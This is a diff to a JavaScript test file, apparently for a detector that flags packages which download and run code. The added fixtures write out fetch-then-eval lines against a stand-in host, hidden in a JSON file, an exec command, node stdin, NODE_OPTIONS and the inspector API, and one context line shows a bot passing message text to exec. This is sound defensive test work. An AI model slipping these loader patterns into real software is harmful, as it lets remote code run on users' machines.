@@ -6,6 +6,37 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'the code that does it is a member of a data file',
+      files: {
+        'index.js': `eval(require('./c.json').steps.first);`,
+        'c.json': { steps: { first: "fetch('https://source.invalid/a').then(r => r.text()).then(eval)" } },
+      },
+    },
+    {
+      when: 'the code that does it is in a command line',
+      files: {
+        'index.js': `require('child_process').exec(\`node -e "fetch('https://source.invalid/a').then(r => r.text()).then(eval)"\`);`,
+      },
+    },
+    {
+      when: 'a Node of its own is given the code on its input',
+      files: {
+        'index.js': `const child = require('child_process').spawn('node', ['-']); child.stdin.end("fetch('https://source.invalid/a').then(r => r.text()).then(eval)");`,
+      },
+    },
+    {
+      when: 'a Node of its own is given the code by an option',
+      files: {
+        'index.js': `require('child_process').spawn('node', ['x.js'], { env: { ...process.env, NODE_OPTIONS: '--import data:text/javascript,fetch("https://source.invalid/a").then(r=>r.text()).then(eval)' } });`,
+      },
+    },
+    {
+      when: 'a debugger is given the code',
+      files: {
+        'index.js': `const { Session } = require('inspector'); const session = new Session(); session.connect(); session.post('Runtime.evaluate', { expression: "fetch('https://source.invalid/a').then(r => r.text()).then(eval)" });`,
+      },
+    },
+    {
       when: 'an installer saves a program where a setting says, and asks it for its version',
       files: {
         'package.json': { name: 'specimen', scripts: { install: 'node i.js' } },
@@ -225,6 +256,13 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
     },
   ],
   silent: [
+    {
+      when: 'a data file holds such a text and nobody runs it',
+      files: {
+        'index.js': `console.log(require('./c.json').first);`,
+        'c.json': { first: "fetch('https://source.invalid/a').then(r => r.text()).then(eval)" },
+      },
+    },
     {
       when: 'a download is saved and unpacked',
       files: {
